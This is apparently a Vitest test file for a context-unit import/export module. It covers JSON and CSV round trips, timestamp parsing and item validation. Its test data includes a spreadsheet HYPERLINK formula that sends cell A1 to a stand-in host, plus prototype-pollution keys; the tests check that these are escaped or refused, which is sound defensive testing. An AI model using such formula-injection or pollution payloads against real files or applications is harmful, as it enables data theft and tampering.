import { parse as parseCsvRecords } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { CONTEXT_STATUSES, CONTEXT_TYPES } from '@contextpilot/contract';

import { cleanContent, cleanLabel, cleanTags, InputRuleError } from './sanitize.js';
import type { TextLimits } from './sanitize.js';
import {
  escapeFormula,
  EXPORT_FIELDS,
  exportCsv,
  exportJson,
  formatPythonFloat,
  ImportFormatError,
  normalizeTimestamp,
  parseImport,
  unescapeFormula,
} from './transfer.js';
import type { ImportOptions, ImportParseResult } from './transfer.js';
import type { ContextUnit } from './types.js';

const LIMITS: TextLimits = { maxContentLength: 10_000, maxTagCount: 20, maxTagLength: 50 };
const NOW = '2026-03-04T05:06:07.089Z';
const EXPORT_DATE = '2026-02-01T00:00:00.000Z';
const HEADER = 'id,type,content,confidence,tags,source,status,created_at,last_used,superseded_by\r\n';

const encoder = new TextEncoder();

function makeUnit(overrides: Partial<ContextUnit> = {}): ContextUnit {
  return {
    id: 'u1',
    type: 'fact',
    content: 'Plain content',
    confidence: 1,
    createdAt: '2026-01-02T03:04:05.123Z',
    lastUsed: null,
    source: 'manual',
    tags: [],
    status: 'active',
    supersededBy: null,
    ...overrides,
  };
}

/** Options whose newId hands out `new-1`, `new-2`, … */
function options(overrides: Partial<ImportOptions> = {}): ImportOptions {
  let n = 0;
  return {
    limits: LIMITS,
    maxItems: 100,
    now: NOW,
    newId: () => `new-${++n}`,
    ...overrides,
  };
}

/** Options for round trips: every item carries its own id, so drawing a new one is a bug. */
const KEEP_IDS = options({
  newId: () => {
    throw new Error('newId must not be called when every item has a usable id');
  },
});

function importText(filename: string, text: string, opts: ImportOptions = options()): ImportParseResult {
  return parseImport({ filename, bytes: encoder.encode(text) }, opts);
}

function importJson(value: unknown, opts: ImportOptions = options()): ImportParseResult {
  return importText('contexts.json', JSON.stringify(value), opts);
}

/** Imports one JSON item and returns the only error, or fails. */
function itemError(item: unknown, opts: ImportOptions = options()): string {
  const result = importJson([item], opts);
  expect(result.units).toEqual([]);
  expect(result.errors).toHaveLength(1);
  return result.errors[0] ?? '';
}

/** Imports one JSON item and returns the unit, or fails. */
function itemUnit(item: unknown, opts: ImportOptions = options()): ContextUnit {
  const result = importJson([item], opts);
  expect(result.errors).toEqual([]);
  expect(result.units).toHaveLength(1);
  return result.units[0] as ContextUnit;
}

function formatErrorOf(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (error instanceof ImportFormatError) {
      return error.message;
    }
    throw error;
  }
  throw new Error('expected an ImportFormatError');
}

const unitA = makeUnit({
  id: 'a1',
  type: 'fact',
  content: 'Hello, "world"\nline 2',
  confidence: 1,
  tags: ['x', 'y z'],
  source: 'manual',
});
const unitB = makeUnit({
  id: 'b2',
  type: 'decision',
  content: 'plain',
  confidence: 0.75,
  tags: [],
  source: 'api',
  status: 'superseded',
  createdAt: '2026-01-03T00:00:00.000Z',
  lastUsed: '2026-01-04T00:00:00.000Z',
  supersededBy: 'a1',
});

/** A set exercising what a backup must keep: links, superseded units, Unicode, newlines, odd sources. */
const fixture: ContextUnit[] = [
  unitA,
  unitB,
  makeUnit({
    id: 'c3:x.y_z-1',
    type: 'preference',
    content: 'Café ☕ 😀 👩‍💻 日本語 עברית\nsecond line\n\tindented, "quoted"',
    confidence: 0.9,
    tags: ['ünïcödé', 'with space', 'snake_case', 'kebab-case'],
    source: 'chat, imported',
    lastUsed: '2026-01-05T06:07:08.009Z',
  }),
  makeUnit({ id: 'd4', type: 'goal', content: '=SUM(A1:A2)', confidence: 0, source: '@cli' }),
];

describe('formatPythonFloat', () => {
  it.each([
    [1, '1.0'],
    [0, '0.0'],
    [-0, '-0.0'],
    [0.9, '0.9'],
    [0.75, '0.75'],
    [2.5, '2.5'],
    [0.1 + 0.2, '0.30000000000000004'],
    [1 / 3, '0.3333333333333333'],
    [0.0001, '0.0001'],
    [0.00001, '1e-05'],
    [1.5e-7, '1.5e-07'],
    [1e15, '1000000000000000.0'],
    [1e16, '1e+16'],
    [123456789012345680, '1.2345678901234568e+17'],
    [1e100, '1e+100'],
    [-2, '-2.0'],
    [Number.NaN, 'nan'],
    [Number.POSITIVE_INFINITY, 'inf'],
    [Number.NEGATIVE_INFINITY, '-inf'],
  ])('formats %s as %s', (value, expected) => {
    expect(formatPythonFloat(value)).toBe(expected);
  });

  it('writes text that reads back as the same number', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(Object.is(Number(formatPythonFloat(value)), value)).toBe(true);
      }),
    );
  });
});

describe('exportJson', () => {
  it('writes the v1 document with 2-space indent, v1 key order and superseded_by', () => {
    expect(exportJson([unitB], EXPORT_DATE)).toBe(
      [
        '{',
        '  "export_date": "2026-02-01T00:00:00.000Z",',
        '  "total_contexts": 1,',
        '  "contexts": [',
        '    {',
        '      "id": "b2",',
        '      "type": "decision",',
        '      "content": "plain",',
        '      "confidence": 0.75,',
        '      "tags": [],',
        '      "source": "api",',
        '      "status": "superseded",',
        '      "created_at": "2026-01-03T00:00:00.000Z",',
        '      "last_used": "2026-01-04T00:00:00.000Z",',
        '      "superseded_by": "a1"',
        '    }',
        '  ]',
        '}',
      ].join('\n'),
    );
  });

  it('writes an empty export', () => {
    expect(exportJson([], EXPORT_DATE)).toBe(
      '{\n  "export_date": "2026-02-01T00:00:00.000Z",\n  "total_contexts": 0,\n  "contexts": []\n}',
    );
  });

  it('keeps the key order for every context', () => {
    const document = JSON.parse(exportJson(fixture, EXPORT_DATE)) as { contexts: object[] };
    expect(Object.keys(document)).toEqual(['export_date', 'total_contexts', 'contexts']);
    for (const context of document.contexts) {
      expect(Object.keys(context)).toEqual([...EXPORT_FIELDS]);
    }
  });

  it('writes non-ASCII characters as they are, not as \\u escapes', () => {
    const json = exportJson([makeUnit({ content: 'café ☕ 😀' })], EXPORT_DATE);
    expect(json).toContain('"content": "café ☕ 😀"');
    expect(json).not.toContain('\\u');
  });

  it('writes null links and times as null', () => {
    const json = exportJson([makeUnit()], EXPORT_DATE);
    expect(json).toContain('"last_used": null,');
    expect(json).toContain('"superseded_by": null\n');
  });
});

describe('exportCsv', () => {
  it('writes CRLF rows with minimal quoting, joined tags, Python floats and empty nulls', () => {
    expect(exportCsv([unitA, unitB])).toBe(
      HEADER +
        'a1,fact,"Hello, ""world""\nline 2",1.0,"x,y z",manual,active,2026-01-02T03:04:05.123Z,,\r\n' +
        'b2,decision,plain,0.75,,api,superseded,2026-01-03T00:00:00.000Z,2026-01-04T00:00:00.000Z,a1\r\n',
    );
  });

  it('writes only the header when there is nothing to export', () => {
    expect(exportCsv([])).toBe(HEADER);
  });

  it('quotes a field holding a lone CR, and leaves spaces and a formula after a space alone', () => {
    const csv = exportCsv([makeUnit({ content: 'a\rb' }), makeUnit({ id: 'u2', content: ' =1+1 ', source: 'x-' })]);
    expect(csv).toBe(
      HEADER +
        'u1,fact,"a\rb",1.0,,manual,active,2026-01-02T03:04:05.123Z,,\r\n' +
        'u2,fact, =1+1 ,1.0,,x-,active,2026-01-02T03:04:05.123Z,,\r\n',
    );
  });

  it('writes every cell a spreadsheet would run as a formula quoted, behind a single quote', () => {
    const csv = exportCsv([
      makeUnit({
        id: '-2-3',
        content: '=HYPERLINK("http://x.test/?"&A1,"open")',
        tags: ['-neg', 'ok'],
        source: '@SUM(A1)',
        supersededBy: '-1',
      }),
      makeUnit({ id: 'u2', content: '+1', source: '\tcmd' }),
      makeUnit({ id: 'u3', content: '\rx', source: '\uFF1D1+1' }),
    ]);
    expect(csv).toBe(
      HEADER +
        `"'-2-3",fact,"'=HYPERLINK(""http://x.test/?""&A1,""open"")",1.0,"'-neg,ok","'@SUM(A1)",active,2026-01-02T03:04:05.123Z,,"'-1"\r\n` +
        `u2,fact,"'+1",1.0,,"'\tcmd",active,2026-01-02T03:04:05.123Z,,\r\n` +
        `u3,fact,"'\rx",1.0,,"'\uFF1D1+1",active,2026-01-02T03:04:05.123Z,,\r\n`,
    );
  });

  it('adds one more quote to a cell that already starts with quotes before a formula character', () => {
    const csv = exportCsv([makeUnit({ content: "'=1+1", source: "''@x" }), makeUnit({ id: 'u2', content: "'quoted" })]);
    expect(csv).toBe(
      HEADER +
        `u1,fact,"''=1+1",1.0,,"'''@x",active,2026-01-02T03:04:05.123Z,,\r\n` +
        `u2,fact,'quoted,1.0,,manual,active,2026-01-02T03:04:05.123Z,,\r\n`,
    );
  });

  it('writes confidences Python-style', () => {
    const rows = exportCsv([0, 0.9, 1, 0.00001].map((confidence, i) => makeUnit({ id: `c${i}`, confidence })));
    expect(rows.split('\r\n').map((row) => row.split(',')[3])).toEqual([
      'confidence',
      '0.0',
      '0.9',
      '1.0',
      '1e-05',
      undefined,
    ]);
  });
});

describe('parseImport round trips', () => {
  it('reads a JSON export back into identical units', () => {
    const result = importText('backup.json', exportJson(fixture, EXPORT_DATE), KEEP_IDS);
    expect(result).toEqual({ units: fixture, errors: [], total: fixture.length });
  });

  it('reads a CSV export back into identical units', () => {
    const result = importText('backup.csv', exportCsv(fixture), KEEP_IDS);
    expect(result).toEqual({ units: fixture, errors: [], total: fixture.length });
  });

  it('reads formula-escaped cells back exactly, including content that starts with quotes', () => {
    const units = [
      makeUnit({ id: '-1', content: '=1+1', tags: ['-a'], source: '+x', supersededBy: '-2' }),
      makeUnit({ id: '-2', content: "'=1+1", source: "''-x" }),
      makeUnit({ id: 'u3', content: "'plain", source: "'" }),
      makeUnit({ id: 'u4', content: '\uFF20mention', source: '@' }),
    ];
    const result = importText('backup.csv', exportCsv(units), KEEP_IDS);
    expect(result).toEqual({ units, errors: [], total: units.length });
  });

  it('reads a quote before a formula character as the escape, in files from other tools too', () => {
    const result = importText('x.csv', "type,content,source\r\nfact,'=1+1,'-x\r\nfact,''@a,'b\r\n");
    expect(result.units.map((u) => [u.content, u.source])).toEqual([
      ['=1+1', '-x'],
      ["'@a", "'b"],
    ]);
  });

  it('reads empty exports back as nothing', () => {
    expect(importText('e.json', exportJson([], EXPORT_DATE))).toEqual({ units: [], errors: [], total: 0 });
    expect(importText('e.csv', exportCsv([]))).toEqual({ units: [], errors: [], total: 0 });
  });
});

describe('parseImport file format', () => {
  it.each(['backup.JSON', 'backup.Json', 'dir/backup.json'])('accepts %s as JSON', (filename) => {
    expect(importText(filename, '[]').total).toBe(0);
  });

  it.each(['backup.CSV', 'backup.Csv'])('accepts %s as CSV', (filename) => {
    expect(importText(filename, 'type,content\r\nfact,x\r\n').total).toBe(1);
  });

  it.each(['backup.txt', 'backup', 'json', 'backup.json.bak', 'backup.xlsx', ''])(
    'refuses the file name %j',
    (filename) => {
      expect(formatErrorOf(() => importText(filename, '[]'))).toBe('Only JSON and CSV files are supported for import');
    },
  );

  it.each([
    ['a lone continuation byte', [0x80]],
    ['an invalid byte', [0x7b, 0xff, 0x7d]],
    ['a truncated sequence', [0x5b, 0xe2, 0x82]],
    ['an encoded surrogate', [0xed, 0xa0, 0x80]],
    ['an overlong encoding', [0xc0, 0xaf]],
    ['UTF-16 with BOM', [0xff, 0xfe, 0x5b, 0x00, 0x5d, 0x00]],
  ])('refuses bytes that are not UTF-8: %s', (_name, bytes) => {
    for (const filename of ['x.json', 'x.csv']) {
      expect(formatErrorOf(() => parseImport({ filename, bytes: new Uint8Array(bytes) }, options()))).toBe(
        'Invalid file encoding: expected UTF-8',
      );
    }
  });

  it('ignores a leading UTF-8 BOM in JSON', () => {
    const result = importText('x.json', '\uFEFF[{"id":"a","type":"fact","content":"x"}]');
    expect(result.units.map((u) => u.id)).toEqual(['a']);
  });

  it('ignores a leading UTF-8 BOM in CSV, so the first column keeps its name', () => {
    const result = importText('x.csv', '\uFEFFid,type,content\r\nabc,fact,x\r\n');
    expect(result.units.map((u) => u.id)).toEqual(['abc']);
  });

  it('reads an export written with a BOM by a spreadsheet', () => {
    const result = importText('backup.csv', `\uFEFF${exportCsv(fixture)}`, KEEP_IDS);
    expect(result.units).toEqual(fixture);
  });
});

describe('parseImport JSON', () => {
  it.each([
    ['', 'Invalid JSON file: '],
    ['{"contexts": [}', 'Invalid JSON file: '],
    ["{'contexts': []}", 'Invalid JSON file: '],
    ['[1,]', 'Invalid JSON file: '],
  ])('refuses text that is not JSON: %j', (text, prefix) => {
    expect(formatErrorOf(() => importText('x.json', text))).toMatch(new RegExp(`^${prefix}.+`));
  });

  it.each([
    ['a number', '42'],
    ['a string', '"contexts"'],
    ['null', 'null'],
    ['an object without contexts', '{"items": []}'],
    ['an object whose contexts is not a list', '{"contexts": {"0": {}}}'],
    ['an object whose contexts is null', '{"contexts": null}'],
  ])('refuses a top level that is %s', (_name, text) => {
    expect(formatErrorOf(() => importText('x.json', text))).toBe(
      'Invalid import file: expected an object with a "contexts" list',
    );
  });

  it('accepts a bare list of items', () => {
    expect(importJson([{ type: 'fact', content: 'x' }]).units).toHaveLength(1);
  });

  it('accepts the export document and ignores its other keys', () => {
    const result = importJson({
      export_date: 'whenever',
      total_contexts: 99,
      contexts: [{ type: 'goal', content: 'g' }],
    });
    expect(result.total).toBe(1);
    expect(result.units[0]?.type).toBe('goal');
  });

  it.each(['__proto__', 'constructor', 'prototype'])('refuses a top-level %s key', (key) => {
    const text = `{"${key}": {"polluted": true}, "contexts": []}`;
    expect(formatErrorOf(() => importText('x.json', text))).toBe(`Invalid import file: forbidden key "${key}"`);
  });

  it.each(['__proto__', 'constructor', 'prototype'])('refuses an item with a %s key and pollutes nothing', (key) => {
    const text = `[{"type": "fact", "content": "x", "${key}": {"polluted": true}}, {"type": "fact", "content": "y"}]`;
    const result = importText('x.json', text);
    expect(result.errors).toEqual([`Context #1: forbidden key "${key}"`]);
    expect(result.units.map((u) => u.content)).toEqual(['y']);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.getPrototypeOf(result.units[0])).toBe(Object.prototype);
  });

  it('ignores forbidden keys nested in values it never reads', () => {
    const result = importJson([{ type: 'fact', content: 'x', extra: JSON.parse('{"__proto__": {"polluted": 1}}') }]);
    expect(result.units).toHaveLength(1);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('refuses a file with more than maxItems items and accepts exactly maxItems', () => {
    const items = [1, 2, 3].map((n) => ({ type: 'fact', content: `c${n}` }));
    expect(formatErrorOf(() => importJson({ contexts: items }, options({ maxItems: 2 })))).toBe(
      'Import file has more than 2 contexts',
    );
    expect(formatErrorOf(() => importJson(items, options({ maxItems: 2 })))).toBe(
      'Import file has more than 2 contexts',
    );
    expect(importJson(items, options({ maxItems: 3 })).units).toHaveLength(3);
  });

  it('turns deeply nested JSON into a format or item error, never a stack overflow', () => {
    const deep = `[${'['.repeat(100_000)}${']'.repeat(100_000)}]`;
    expect(importText('x.json', deep)).toEqual({ units: [], errors: ['Context #1: expected an object'], total: 1 });
  });
});

describe('parseImport CSV', () => {
  it('refuses an empty file', () => {
    expect(formatErrorOf(() => importText('x.csv', ''))).toBe('Invalid CSV file: missing header row');
    expect(formatErrorOf(() => importText('x.csv', '\r\n\r\n'))).toBe('Invalid CSV file: missing header row');
  });

  it.each([
    ['type', 'id,content\r\na,x\r\n'],
    ['content', 'id,type\r\na,fact\r\n'],
  ])('refuses a header without the %s column', (column, text) => {
    expect(formatErrorOf(() => importText('x.csv', text))).toBe(`Invalid CSV file: missing column "${column}"`);
  });

  it('refuses a header naming a column twice', () => {
    expect(formatErrorOf(() => importText('x.csv', 'type,content,Content\r\nfact,x,y\r\n'))).toBe(
      'Invalid CSV file: duplicate column "content"',
    );
  });

  it('refuses an unclosed quote', () => {
    expect(formatErrorOf(() => importText('x.csv', 'type,content\r\nfact,"x\r\n'))).toMatch(
      /^Invalid CSV file: Quote Not Closed/,
    );
  });

  it('refuses a row with a different number of fields than the header', () => {
    expect(formatErrorOf(() => importText('x.csv', 'type,content\r\nfact,x,extra\r\n'))).toMatch(
      /^Invalid CSV file: Invalid Record Length/,
    );
    expect(formatErrorOf(() => importText('x.csv', 'type,content\r\nfact\r\n'))).toMatch(
      /^Invalid CSV file: Invalid Record Length/,
    );
  });

  it('refuses a quote inside an unquoted field', () => {
    expect(formatErrorOf(() => importText('x.csv', 'type,content\r\nfact,a"b\r\n'))).toMatch(/^Invalid CSV file: /);
  });

  it('passes on at most 160 characters of the parser message, escaped, however long the bad field is', () => {
    const message = formatErrorOf(() => importText('x.csv', `type,content\r\nfact,a${'b\u202E'.repeat(5_000)}"x\r\n`));
    expect(message).toMatch(/^Invalid CSV file: Invalid Opening Quote: .*…$/);
    expect(message.length).toBeLessThan('Invalid CSV file: '.length + 160 * 6 + 1);
    expect(message).not.toContain('\u202E');
    // V8's message quotes the unexpected character and the text around it.
    const json = formatErrorOf(() => importText('x.json', `\u202E${'x'.repeat(500)}`));
    expect(json).toMatch(/^Invalid JSON file: .*\\u202e/);
    expect(json).not.toContain('\u202E');
  });

  it('refuses a file with more than maxItems rows', () => {
    const text = 'type,content\r\nfact,a\r\nfact,b\r\nfact,c\r\n';
    expect(formatErrorOf(() => importText('x.csv', text, options({ maxItems: 2 })))).toBe(
      'Import file has more than 2 contexts',
    );
    expect(importText('x.csv', text, options({ maxItems: 3 })).total).toBe(3);
  });

  it('fills defaults for missing columns and empty cells', () => {
    const expected = makeUnit({ id: 'new-1', content: 'x', createdAt: NOW });
    expect(importText('x.csv', 'type,content\r\nfact,x\r\n').units).toEqual([expected]);
    expect(importText('x.csv', `${HEADER}  ,fact,x,,,,,,,\r\n`).errors).toEqual([]);
    expect(importText('x.csv', `${HEADER},fact,x,,,,,,,\r\n`).units).toEqual([expected]);
  });

  it('matches column names in any order and case, and ignores unknown columns', () => {
    const text = 'Notes,Content, TYPE ,tags,ID\r\nignored,hello,goal,"a, b",g1\r\n';
    expect(importText('x.csv', text).units).toEqual([
      makeUnit({ id: 'g1', type: 'goal', content: 'hello', tags: ['a', 'b'], createdAt: NOW }),
    ]);
  });

  it('splits tags on commas, trims them and drops empty pieces', () => {
    const text = 'type,content,tags\r\nfact,x," a ,b,, c d ,"\r\n';
    expect(importText('x.csv', text).units[0]?.tags).toEqual(['a', 'b', 'c d']);
  });

  it('reads LF line endings, skips blank lines and keeps quoted newlines', () => {
    const text = 'type,content\n\nfact,"line 1\r\nline 2"\n\nfact,b\n';
    expect(importText('x.csv', text).units.map((u) => u.content)).toEqual(['line 1\nline 2', 'b']);
  });

  it('parses confidence as a number, Python notation included', () => {
    const text = 'id,type,content,confidence\r\na,fact,x,1e-05\r\nb,fact,x,.5\r\nc,fact,x,1.0\r\nd,fact,x,-0.0\r\n';
    expect(importText('x.csv', text).units.map((u) => u.confidence)).toEqual([0.00001, 0.5, 1, 0]);
    expect(Object.is(importText('x.csv', text).units[3]?.confidence, 0)).toBe(true);
  });

  it.each(['0x1', ' 1', 'one', 'NaN', 'Infinity', '1.5', '-0.1', '1,0'])('refuses the confidence cell %j', (cell) => {
    const text = stringify([
      ['id', 'type', 'content', 'confidence'],
      ['a', 'fact', 'x', cell],
    ]);
    expect(importText('x.csv', text).errors).toEqual(['Context a: confidence must be a number between 0 and 1']);
  });

  it('reports bad rows by id or position and keeps the good ones', () => {
    const text = 'id,type,content\r\n,fact,ok\r\nr2,opinion,x\r\n,fact,   \r\nr4,goal,fine\r\n';
    const result = importText('x.csv', text);
    expect(result.units.map((u) => u.id)).toEqual(['new-1', 'r4']);
    expect(result.errors).toEqual([
      'Context r2: type must be one of preference, decision, fact, goal',
      'Context #3: Content cannot be empty',
    ]);
    expect(result.total).toBe(4);
  });
});

describe('parseImport item validation', () => {
  const base = { id: 'x1', type: 'fact', content: 'ok' };

  it('reports an item that is not an object by position', () => {
    const result = importJson([base, 1, null, 'text', [base]]);
    expect(result.units).toHaveLength(1);
    expect(result.errors).toEqual([
      'Context #2: expected an object',
      'Context #3: expected an object',
      'Context #4: expected an object',
      'Context #5: expected an object',
    ]);
    expect(result.total).toBe(5);
  });

  it.each([undefined, null, 'opinion', 'FACT', 3, ['fact']])('refuses type %j', (type) => {
    expect(itemError({ ...base, type })).toBe('Context x1: type must be one of preference, decision, fact, goal');
  });

  it.each(CONTEXT_TYPES)('accepts type %s', (type) => {
    expect(itemUnit({ ...base, type }).type).toBe(type);
  });

  it.each([undefined, null, 42, ['text'], { text: 'x' }])('refuses content %j', (content) => {
    expect(itemError({ ...base, content })).toBe('Context x1: content must be a string');
  });

  it('sanitizes content like a create', () => {
    expect(itemUnit({ ...base, content: '  Hello\r\nworld\u200B\u0000 ' }).content).toBe('Hello\nworld');
    expect(itemUnit({ ...base, content: 'e\u0301' }).content).toBe('é');
  });

  it('applies the content rules of sanitize', () => {
    expect(itemError({ ...base, content: ' \u200B\n ' })).toBe('Context x1: Content cannot be empty');
    expect(itemError({ ...base, content: '\uD800' })).toBe('Context x1: Content contains invalid Unicode');
    expect(
      itemError({ ...base, content: '12345678901' }, options({ limits: { ...LIMITS, maxContentLength: 10 } })),
    ).toBe('Context x1: Content exceeds maximum length of 10 characters');
  });

  it('defaults confidence to 1 and keeps 0 and 1', () => {
    expect(itemUnit(base).confidence).toBe(1);
    expect(itemUnit({ ...base, confidence: 0 }).confidence).toBe(0);
    expect(itemUnit({ ...base, confidence: 0.25 }).confidence).toBe(0.25);
  });

  it.each([null, 1.5, -0.1, '0.5', true, [0.5]])('refuses confidence %j', (confidence) => {
    expect(itemError({ ...base, confidence })).toBe('Context x1: confidence must be a number between 0 and 1');
  });

  it('defaults tags to none and cleans them like a create', () => {
    expect(itemUnit(base).tags).toEqual([]);
    expect(itemUnit({ ...base, tags: ['  Work  ', 'work', 'deep   focus', 'ﬁle'] }).tags).toEqual([
      'Work',
      'deep focus',
      'file',
    ]);
  });

  it.each([null, 'a,b', [1], ['a', null], { 0: 'a' }])('refuses tags %j', (tags) => {
    expect(itemError({ ...base, tags })).toBe('Context x1: tags must be a list of strings');
  });

  it('applies the tag rules of sanitize', () => {
    expect(itemError({ ...base, tags: ['bad!'] })).toBe(
      "Context x1: Tag 'bad!' contains invalid characters. Only alphanumeric, spaces, hyphens, and underscores allowed",
    );
    expect(itemError({ ...base, tags: [' '] })).toBe('Context x1: Tags cannot be empty');
    expect(itemError({ ...base, tags: ['a', 'b', 'c'] }, options({ limits: { ...LIMITS, maxTagCount: 2 } }))).toBe(
      'Context x1: Maximum 2 tags allowed',
    );
  });

  it.each([undefined, null, '', '   ', '\u200B'])('turns source %j into manual', (source) => {
    expect(itemUnit({ ...base, source }).source).toBe('manual');
  });

  it('cleans source as a label', () => {
    expect(itemUnit({ ...base, source: '  web \n  ui ' }).source).toBe('web ui');
    expect(itemError({ ...base, source: 'x'.repeat(201) })).toBe(
      'Context x1: Source exceeds maximum length of 200 characters',
    );
    expect(itemUnit({ ...base, source: 'x'.repeat(200) }).source).toHaveLength(200);
  });

  it.each([5, true, ['api']])('refuses source %j', (source) => {
    expect(itemError({ ...base, source })).toBe('Context x1: source must be a string');
  });

  it('defaults status to active and keeps superseded', () => {
    expect(itemUnit(base).status).toBe('active');
    for (const status of CONTEXT_STATUSES) {
      expect(itemUnit({ ...base, status }).status).toBe(status);
    }
  });

  it.each([null, 'deleted', 'Active', 1])('refuses status %j', (status) => {
    expect(itemError({ ...base, status })).toBe('Context x1: status must be one of active, superseded');
  });

  it.each(['abc', 'A-Z_0.9:x', 'x'.repeat(100), '550e8400-e29b-41d4-a716-446655440000'])('keeps the id %s', (id) => {
    expect(itemUnit({ ...base, id }).id).toBe(id);
  });

  it.each([undefined, null, '', 'x'.repeat(101), 'has space', 'semi;colon', 'ümlaut', 'a/b', 42, ['a']])(
    'gives a new id instead of %j',
    (id) => {
      expect(itemUnit({ ...base, id }).id).toBe('new-1');
    },
  );

  it('names an item without a usable id by its 1-based position', () => {
    const result = importJson([base, { id: 'bad id', type: 'x', content: 'c' }, { type: 'x', content: 'c' }]);
    expect(result.errors).toEqual([
      'Context #2: type must be one of preference, decision, fact, goal',
      'Context #3: type must be one of preference, decision, fact, goal',
    ]);
  });

  it('reports the later of two items with the same id as a duplicate', () => {
    const result = importJson([
      { ...base, content: 'first' },
      { ...base, content: 'second' },
    ]);
    expect(result.units.map((u) => u.content)).toEqual(['first']);
    expect(result.errors).toEqual(['Context x1: duplicate id']);
    expect(result.total).toBe(2);
  });

  it('lets an id taken only by a failed item be used by a later one', () => {
    const result = importJson([{ ...base, type: 'bad' }, base]);
    expect(result.units.map((u) => u.id)).toEqual(['x1']);
    expect(result.errors).toEqual(['Context x1: type must be one of preference, decision, fact, goal']);
  });

  it('draws new ids only for items that are accepted', () => {
    const result = importJson([
      { type: 'bad', content: 'x' },
      { type: 'fact', content: 'a' },
      { type: 'fact', content: 'b' },
    ]);
    expect(result.units.map((u) => u.id)).toEqual(['new-1', 'new-2']);
  });

  it('keeps created_at, normalised to UTC with milliseconds, and defaults it to now', () => {
    expect(itemUnit(base).createdAt).toBe(NOW);
    expect(itemUnit({ ...base, created_at: '2025-12-31T23:59:59.999Z' }).createdAt).toBe('2025-12-31T23:59:59.999Z');
    expect(itemUnit({ ...base, created_at: '2026-01-02T03:04:05.123456' }).createdAt).toBe('2026-01-02T03:04:05.123Z');
    expect(itemUnit({ ...base, created_at: '2026-01-02T03:04:05' }).createdAt).toBe('2026-01-02T03:04:05.000Z');
    expect(itemUnit({ ...base, created_at: '2026-01-02T03:04:05+01:00' }).createdAt).toBe('2026-01-02T02:04:05.000Z');
  });

  it.each([null, '', 'yesterday', '1', '2026-02-30T00:00:00Z', '2026-13-01T00:00:00Z', 12345, '2026-01-02T25:00:00Z'])(
    'refuses created_at %j',
    (created_at) => {
      expect(itemError({ ...base, created_at })).toBe('Context x1: created_at must be a valid timestamp');
    },
  );

  it('keeps last_used, null included', () => {
    expect(itemUnit(base).lastUsed).toBeNull();
    expect(itemUnit({ ...base, last_used: null }).lastUsed).toBeNull();
    expect(itemUnit({ ...base, last_used: '2026-01-02T03:04:05.5Z' }).lastUsed).toBe('2026-01-02T03:04:05.500Z');
  });

  it.each(['', 'never', 0, false])('refuses last_used %j', (last_used) => {
    expect(itemError({ ...base, last_used })).toBe('Context x1: last_used must be a valid timestamp or null');
  });

  it('keeps superseded_by, including links to units outside the file', () => {
    expect(itemUnit(base).supersededBy).toBeNull();
    expect(itemUnit({ ...base, superseded_by: null }).supersededBy).toBeNull();
    expect(itemUnit({ ...base, superseded_by: 'elsewhere-1' }).supersededBy).toBe('elsewhere-1');
  });

  it.each(['', 'bad id', 'x'.repeat(101), 7])('refuses superseded_by %j', (superseded_by) => {
    expect(itemError({ ...base, superseded_by })).toBe('Context x1: superseded_by must be a valid id or null');
  });

  it('ignores unknown keys', () => {
    expect(itemUnit({ ...base, embedding: [1, 2], relevance_score: 0.5, extra: { nested: true } })).toEqual(
      makeUnit({ id: 'x1', content: 'ok', createdAt: NOW }),
    );
  });

  it('reports every bad item, not only the first ten', () => {
    const items = Array.from({ length: 15 }, (_, i) => ({ id: `bad${i}`, type: 'nope', content: 'x' }));
    const result = importJson([...items, base]);
    expect(result.errors).toHaveLength(15);
    expect(result.units).toHaveLength(1);
    expect(result.total).toBe(16);
  });
});

describe('normalizeTimestamp', () => {
  it.each([
    ['2026-01-02T03:04:05.123Z', '2026-01-02T03:04:05.123Z'],
    ['2026-01-02t03:04:05z', '2026-01-02T03:04:05.000Z'],
    ['2026-01-02 03:04:05', '2026-01-02T03:04:05.000Z'],
    ['2026-01-02T03:04', '2026-01-02T03:04:00.000Z'],
    ['2026-01-02', '2026-01-02T00:00:00.000Z'],
    ['2026-01-02T03:04:05.1Z', '2026-01-02T03:04:05.100Z'],
    ['2026-01-02T03:04:05.123999Z', '2026-01-02T03:04:05.123Z'],
    ['2026-01-02T00:30:00+01:00', '2026-01-01T23:30:00.000Z'],
    ['2026-01-02T00:30:00-0130', '2026-01-02T02:00:00.000Z'],
    ['2024-02-29T00:00:00Z', '2024-02-29T00:00:00.000Z'],
    ['2000-02-29T00:00:00Z', '2000-02-29T00:00:00.000Z'],
    ['+275760-09-13T00:00:00.000Z', '+275760-09-13T00:00:00.000Z'],
    ['-000001-01-01T00:00:00.000Z', '-000001-01-01T00:00:00.000Z'],
  ])('reads %s as %s', (text, expected) => {
    expect(normalizeTimestamp(text)).toBe(expected);
  });

  it.each([
    '',
    '1',
    'yesterday',
    'Tue, 02 Jan 2026 03:04:05 GMT',
    '2026-1-2',
    '2026-02-29T00:00:00Z',
    '1900-02-29T00:00:00Z',
    '2026-04-31T00:00:00Z',
    '2026-00-10T00:00:00Z',
    '2026-01-00T00:00:00Z',
    '2026-01-02T24:00:00Z',
    '2026-01-02T03:60:00Z',
    '2026-01-02T03:04:60Z',
    '2026-01-02T03:04:05+24:00',
    '2026-01-02T03:04:05+01:60',
    '2026-01-02Z',
    ' 2026-01-02T03:04:05Z',
    '2026-01-02T03:04:05.Z',
    '-000000-01-01T00:00:00Z',
    '+275760-09-13T00:00:00.001Z',
  ])('refuses %j', (text) => {
    expect(normalizeTimestamp(text)).toBeUndefined();
  });

  it('reads back every timestamp toISOString writes', () => {
    fc.assert(
      fc.property(fc.date({ noInvalidDate: true }), (date) => {
        expect(normalizeTimestamp(date.toISOString())).toBe(date.toISOString());
      }),
    );
  });

  it('returns undefined or a fixed point for any text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.stringMatching(/^\d{4}-\d{2}-\d{2}([T ]\d{2}:\d{2}(:\d{2}(\.\d{1,6})?)?)?(Z|[+-]\d{2}:\d{2})?$/),
        ),
        (text) => {
          const once = normalizeTimestamp(text);
          if (once !== undefined) {
            expect(normalizeTimestamp(once)).toBe(once);
          }
        },
      ),
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Properties

